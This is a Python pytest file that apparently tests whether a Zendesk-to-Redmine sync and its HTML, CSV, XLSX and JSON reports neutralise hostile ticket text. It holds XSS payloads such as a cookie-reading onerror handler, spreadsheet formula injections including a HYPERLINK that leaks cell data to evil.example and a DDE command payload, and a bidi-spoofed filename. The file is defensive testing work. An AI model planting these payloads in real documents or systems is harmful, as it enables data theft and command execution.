"""Hostile ticket text through a real sync into Redmine, the store and every report format
(issue 5, bad input): markup, spreadsheet formulas, a 1 MB body, emoji and ZWJ sequences,
mojibake, lone surrogates, bidi overrides, zero-width characters, NUL bytes, a 300-character
subject; hostile names for the requester, the organization, the agent and the Redmine user who
logs the time, and in time-entry comments.

The promises checked: the cycle succeeds and each ticket gets exactly one issue with a sane
subject; the store keeps the text as Zendesk sent it; HTML shows it as text (no element or
attribute from the input); CSV and XLSX cells never start a formula; JSON gives the text back
exactly (a lone surrogate, which UTF-8 can't hold, as U+FFFD).
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from datetime import date
from decimal import Decimal, InvalidOperation
from html.parser import HTMLParser

import openpyxl
import pytest
from reliability import figure, patiently
from studio import Studio

from reports.months import month_of

pytestmark = [pytest.mark.reliability, pytest.mark.redmine]

MEGABYTE = 1024 * 1024
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")

# name -> (subject, first comment)
HOSTILE: dict[str, tuple[str, str]] = {
    "script": ("<script>alert(1)</script> form", '<img src=x onerror="alert(document.cookie)">'),
    "hyperlink": ('=HYPERLINK("http://evil.example/?d="&A1,"Open")', "=1+1"),
    "dde": ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"),
    "minus": ("-2+3", "-2+3"),
    "at": ("@SUM(A1)", "@SUM(A1)"),
    "tab": ("\t=1+1 tabbed", "\r=2+2"),
    "emoji": (
        "👩‍👩‍👧‍👦 family 🏳️‍🌈 flag ❤️ 🇷🇺 " + "x",
        "🙂 " * (MEGABYTE // 5 + 1),
    ),  # > 1 MB of UTF-8
    "mojibake": ("Ð¡Ñ‡ÐµÑ‚ Ð½Ð° Ð¾Ð¿Ð»Ð°Ñ‚Ñƒ Ñ÷åò", "â€œquotedâ€\x9d and cp1251 Ñ÷åò íà îïëàòó"),
    "surrogate": ("lone \ud800 high and \udfff low", "body \ud83d alone"),
    "bidi": ("invoice\u202egpj.exe\u200b zero\u200dwidth\ufeff", "\u2066isolate\u2069 \u202dx"),
    "nul": ("nul\x00byte\x07bell\x1b[31m", "a\x00b\x00c"),
    "long": ("Ж" * 300, "a subject longer than Redmine's 255"),
}
REQUESTER = '<script>alert("requester")</script> =HYPERLINK("x")'
ORGANIZATION = "<b>Org</b> onerror=alert(1) @SUM(A1)"
AGENT = '<img src=x onerror=alert("agent")> =1+2'
COMMENT = '=HYPERLINK("http://evil.example","time") <script>alert("entry")</script>'
PLAN = """
[plans.standard]
kind = "hourly"
rate = "1000.00"
currency = "RUB"

[billing]
output_dir = "reports"
"""


def expected_subject(subject: str) -> str:
    """What the issue's subject must be: one line, no control or bidi characters, a lone
    surrogate as U+FFFD, at most 255 characters."""
    text = subject.encode("utf-16", "surrogatepass").decode("utf-16", "replace")
    text = "".join(
        c
        for c in text
        if unicodedata.category(c) != "Cc" or c in " \t\n\r\x0b\x0c\x1c\x1d\x1e\x1f\x85"
    )
    text = "".join(c for c in text if not ("\u202a" <= c <= "\u202e" or "\u2066" <= c <= "\u2069"))
    return " ".join(text.split())[:255]


def utf8_safe(text: str) -> str:
    """The text as a UTF-8 report carries it: a lone surrogate becomes U+FFFD."""
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")


class Markup(HTMLParser):
    """Every element and attribute of a page, and its text as a browser would show it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [name for name, _ in attrs]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


@pytest.fixture
def hostile_studio(studio: Studio, redmine_user) -> tuple[Studio, dict[str, int], object]:
    s = studio
    org = s.emu.create_organization(ORGANIZATION)
    s.org_id = int(org["id"])
    s.requester_id = int(
        s.emu.create_user(name=REQUESTER, email="r@acme.example", organization_id=s.org_id)["id"]
    )
    s.write_config(client_toml='plan = "standard"', extra_toml=PLAN)
    agent = int(s.emu.create_user(name=AGENT, email="agent2@studio.example", role="agent")["id"])
    # The Redmine user who logs the time has a formula and markup for a name.
    s.redmine.rest(
        "PUT",
        f"/users/{redmine_user.id}.json",
        json={"user": {"firstname": "=SUM(A1)", "lastname": "<i>Dev</i>"}},
        expect=204,
    )
    tickets = {
        name: s.ticket(subject, body=body, tags=("redmine", "=cmd", "<b>tag</b>"))
        for name, (subject, body) in HOSTILE.items()
    }
    for ticket in tickets.values():
        s.emu.update_ticket(ticket, assignee_id=agent)
        s.emu.add_comment(ticket, "<script>reply</script> =1+1", author_id=agent)
    return s, tickets, redmine_user


def test_hostile_text_flows_through_sync_store_and_reports(hostile_studio) -> None:
    s, tickets, user = hostile_studio
    s.sync()

    # Redmine: one issue per ticket, a sane subject, the text kept in the description.
    for name, ticket in tickets.items():
        subject, body = HOSTILE[name]
        [issue] = patiently(s.issue_for, ticket)
        assert issue["subject"] == expected_subject(subject), name
        assert 0 < len(issue["subject"]) <= 255
        if name in ("script", "hyperlink", "mojibake", "emoji"):
            kept = "".join(c for c in body[:1000] if unicodedata.category(c) != "Cc")
            assert kept in issue["description"], name
        patiently(
            s.redmine.log_time,
            0.5,
            issue_id=issue["id"],
            user_id=user.id,
            spent_on=date.today(),
            comments=COMMENT,
        )
    s.sync()  # the time entries
    s.sync()  # the events past the export's lag

    # The store: the text exactly as Zendesk sent it (SQLite holds anything UTF-8 can).
    store = s.store()
    try:
        for name, ticket in tickets.items():
            assert store.ticket(ticket)["subject"] == utf8_safe(HOSTILE[name][0]), name
        assert store.failures() == []
        names = {r["name"] for r in store.user_roles()}
        assert AGENT in names
    finally:
        store.close()

    month = month_of(date.today())
    out = s.tmp / "out"
    code, text = s.syncd("report", "billing", "--month", month, "--out", str(out))
    assert code == 0, text
    code, text = s.syncd("report", "sla", "--month", month, "--out", str(out))
    assert code == 0, text
    files = sorted(out.iterdir())
    counts = {"html": 0, "csv": 0, "xlsx": 0, "json": 0, "cells": 0}

    # HTML: no element or attribute came from the input, and the text is there as text.
    showing: set[str] = set()
    for path in (p for p in files if p.suffix == ".html"):
        counts["html"] += 1
        page = Markup()
        page.feed(path.read_text(encoding="utf-8"))
        assert "script" not in page.tags and "img" not in page.tags, path.name
        assert not [a for a in page.attributes if a.startswith("on")], path.name
        if "<script>alert(1)</script> form" in "".join(page.text):
            showing.add(path.name)
    # ... shown as text where tickets are listed: the client's invoice and the SLA report.
    assert {f"billing-{month}-acme.html", f"sla-{month}.html"} <= showing, showing
    # CSV: a cell that starts like a formula is a number (a negative amount), never text.
    for path in (p for p in files if p.suffix == ".csv"):
        counts["csv"] += 1
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        cells = [c for row in rows for c in row]
        counts["cells"] += len(cells)
        risky = [c for c in cells if c.startswith(FORMULA_START) and not is_number(c)]
        assert risky == [], (path.name, risky)
    billing_csv = (out / f"billing-{month}-acme.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in billing_csv and "'@SUM(A1)" in billing_csv
    # XLSX: no formula cell, no text cell that starts like one.
    for path in (p for p in files if p.suffix == ".xlsx"):
        counts["xlsx"] += 1
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    counts["cells"] += 1
                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith(FORMULA_START), (path.name, cell.value)
    # JSON: the text back exactly.
    billing = json.loads((out / f"billing-{month}-acme.json").read_text(encoding="utf-8"))
    counts["json"] += 1
    [invoice] = billing["clients"]
    by_ticket = {line["ticket_id"]: line for line in invoice["lines"]}
    for name, ticket in tickets.items():
        line = by_ticket[ticket]
        assert line["subject"] == utf8_safe(HOSTILE[name][0]), name
        assert [e["comments"] for e in line["entries"]] == [COMMENT]
        assert line["entries"][0]["user"] == "=SUM(A1) <i>Dev</i>"
    sla = json.loads((out / f"sla-{month}.json").read_text(encoding="utf-8"))
    counts["json"] += 1
    sla_subjects = {row["ticket_id"]: row["subject"] for row in sla["tickets"]}
    assert sla_subjects == {t: utf8_safe(HOSTILE[n][0]) for n, t in tickets.items()}
    assert [a["agent"] for a in sla["agents"]] == [AGENT]

    figure(
        "input",
        f"hostile text: {len(HOSTILE)} tickets (markup, formulas, 1 MB body, emoji/ZWJ, mojibake, "
        "lone surrogates, bidi/zero-width, NUL, 300-char subject) + hostile requester, "
        f"organization, agent, Redmine user, entry comments -> {len(HOSTILE)} issues, "
        f"{counts['html']} HTML / {counts['csv']} CSV / {counts['xlsx']} XLSX / {counts['json']} "
        f"JSON reports, {counts['cells']} cells checked: 0 unescaped, 0 formulas",
    )
